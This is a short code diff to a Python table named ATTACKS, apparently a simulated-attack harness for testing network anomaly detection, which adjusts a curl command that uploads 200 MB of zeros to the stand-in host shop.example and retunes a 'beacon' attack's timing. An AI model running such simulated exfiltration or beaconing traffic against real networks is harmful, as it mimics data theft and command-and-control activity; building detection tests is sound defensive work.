@@ -227,13 +227,13 @@ ATTACKS: Final[Mapping[str, Attack]] = {
         "plug",
         "volume_anomaly",
         _shell(
-            "head -c 200000000 /dev/zero | curl -sS -m 60 --cacert {certificate} -X POST -T -"
+            "head -c 200000000 /dev/zero | curl -sS -m 60 --limit-rate 25M --cacert {certificate} -X POST -T -"
             f" --resolve shop.example:443:{_WEB} https://shop.example/upload"
         ),
         60,
     ),
     "beacon": Attack(
-        "vacuum", "beacon", _client("beacon", 80, 110), 120, _HERD, subject="cdn-sync.example"
+        "vacuum", "beacon", _client("beacon", 80, 105), 115, _HERD, subject="cdn-sync.example"
     ),
     "burst": Attack("tv", "connection_burst", _client("burst", 80, 20), 25, _HERD),
     "stranger": Attack(
